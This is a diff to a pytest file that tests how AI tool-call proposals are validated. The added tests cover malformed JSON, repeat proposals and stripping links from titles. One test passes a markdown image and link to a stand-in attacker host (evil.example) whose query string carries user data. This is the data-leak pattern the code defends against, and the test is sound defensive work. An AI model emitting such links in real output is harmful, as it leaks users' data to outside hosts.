@@ -45,7 +45,9 @@ def rename(monkeypatch: pytest.MonkeyPatch) -> None:
 
 
 def proposals(state: Any = None) -> Proposals:
-    database = ScriptedDatabase(action_target=[{"title": "Old"} if state is None else state])
+    database = ScriptedDatabase(
+        action_target=[{"state": {"title": "Old"} if state is None else state, "pending": None}]
+    )
     return Proposals(database, UUID(int=1), Situation({}), {"model": "m", "passages": PASSAGES})
 
 
@@ -63,6 +65,19 @@ def test_a_valid_call_is_kept_with_its_state_and_preview_and_the_model_is_told_s
     preview = [{"path": "title", "before": "Old", "after": "New", "unit": None}]
     assert (result["status"], result["action_type"], result["preview"]) == ("proposed", "rename", preview)
     assert kept.model_dump(mode="json")["preview"] == preview
+
+
+@pytest.mark.parametrize("arguments", ["[" * 100_000, '{"title": ', "", '{"title": "\\ud800"}'])
+def test_what_is_no_json_is_answered_as_such(arguments: str) -> None:
+    assert proposals().propose(ToolCall("call_1", "rename", arguments))["status"] == "invalid"
+
+
+def test_what_is_proposed_carries_no_link_or_picture_into_an_app() -> None:
+    made = proposals()
+    made.propose(call(title="New ![x](https://evil.example/?q=knee) [plan](https://evil.example)"))
+
+    (kept,) = made.proposed
+    assert kept.payload == {"title": "New x plan"}
 
 
 def test_passages_are_kept_without_their_text_and_those_quoted_are_named() -> None:
@@ -99,7 +114,7 @@ def test_any_other_call_is_answered_with_what_is_wrong(refused: ToolCall, status
 
 
 def test_what_there_is_nothing_for_is_refused_in_words_for_the_model() -> None:
-    database = ScriptedDatabase(action_target=[None])
+    database = ScriptedDatabase(action_target=[{"state": None, "pending": None}])
     made = Proposals(database, UUID(int=1), Situation({}), {})
     assert made.propose(call(title="New")) == {"status": "refused", "reasons": ["There is nothing to rename."]}
 
@@ -117,6 +132,14 @@ def test_the_same_is_not_proposed_twice_and_no_more_than_a_few() -> None:
     ]
     assert results[1]["id"] == str(made.proposed[0].id)
     assert len(made.proposed) == MAX_PROPOSALS
+
+
+def test_what_waits_for_the_user_in_another_session_is_not_proposed_again() -> None:
+    waiting = str(UUID(int=9))
+    database = ScriptedDatabase(action_target=[{"state": {"title": "Old"}, "pending": waiting}])
+    made = Proposals(database, UUID(int=1), Situation({}), {})
+    result = made.propose(call(title="New"))
+    assert (result["status"], result["id"], made.proposed) == ("already proposed", waiting, [])
 
 
 TOMORROW = datetime.now(UTC) + timedelta(days=1)
